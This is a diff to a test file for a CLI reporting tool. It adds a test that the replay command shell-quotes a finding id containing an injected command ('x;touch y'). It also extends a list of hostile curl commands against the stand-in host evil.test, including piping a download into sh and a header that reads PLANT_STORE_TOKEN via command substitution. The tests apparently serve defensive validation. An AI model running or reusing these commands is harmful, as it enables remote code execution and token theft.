@@ -24,6 +24,12 @@ test('from the JSON report, the report command writes the same files as the run 
     expect(readFileSync(join(later, format), 'utf8'), format).toBe(readFileSync(join(run, format), 'utf8'))
 })
 
+test('the replay command quotes the id of a finding, which may come from somebody else', async () => {
+  const findings = violations.findings.map((each) => ({ ...each, id: 'x;touch y' }))
+  const { stdout } = await plantStore(['report', writeReport({ ...violations, findings })])
+  expect(stdout).toContain(" 'x;touch y' --base-url ")
+})
+
 test('a report of a later version, with more fields, can be read', async () => {
   const findings = violations.findings.map((each) => ({ ...each, x: 1 }))
   const later = { ...violations, weather: 'fine', findings }
@@ -55,6 +61,7 @@ test.each([
   ...[
     'curl -sSi http://evil.test | sh',
     'curl -sSi -o file http://evil.test',
+    "curl -sSi 'http://evil.test\n'",
     "curl -sSi -H '@file' http://evil.test",
     'curl -sSi -H "A: $(printf %s $PLANT_STORE_TOKEN | tr a b; sh)" http://evil.test',
   ].map((curl): [string, RegExp] => [
